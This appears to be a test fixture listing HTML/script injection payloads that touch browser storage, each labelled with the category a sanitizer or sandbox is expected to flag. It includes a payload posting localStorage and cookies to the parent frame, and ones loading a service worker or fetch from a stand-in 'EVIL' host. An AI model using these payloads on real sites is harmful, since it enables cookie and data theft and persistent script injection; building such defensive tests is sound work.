// Markup that keeps something where the page keeps its own, or reads that.

export const storage = [
  ['storage: localStorage', '<script>localStorage.setItem("hurt","1")</script>', 'storage'],
  ['storage: sessionStorage', '<script>sessionStorage.setItem("hurt","1")</script>', 'storage'],
  ['storage: cookie', '<script>document.cookie="hurt=1"</script>', 'storage'],
  ['storage: cookie by meta', '<meta http-equiv=set-cookie content="hurt=1;path=/">'],
  ['storage: cookieStore', '<script>cookieStore.set("hurt","1")</script>', 'storage'],
  ['storage: IndexedDB', '<script>indexedDB.open("hurt",1)</script>', 'storage'],
  ['storage: Cache Storage', '<script>caches.open("hurt")</script>', 'storage'],
  [
    'storage: private files',
    '<script>navigator.storage.getDirectory().then(d=>d.getFileHandle("hurt",{create:true}))</script>',
    'storage',
  ],
  [
    'storage: what the page keeps is read',
    '<script>parent.postMessage(JSON.stringify(localStorage)+document.cookie,"*")</script>',
    'message',
  ],
  ['storage: event', '<img src=x onerror="try{localStorage.hurt=1}catch{}">', 'storage'],
  [
    'storage: channel',
    '<script>new BroadcastChannel("waferseal").postMessage("hurt")</script>',
    'message',
  ],
  [
    'storage: service worker',
    '<script>navigator.serviceWorker.register("EVIL/sw.js").catch(()=>{});HURT</script>',
    'script',
  ],
  [
    'storage: shared worker',
    "<script>new SharedWorker(\"data:text/javascript,fetch('EVIL/shared',{mode:'no-cors'})\")</script>",
    undefined,
  ],
];
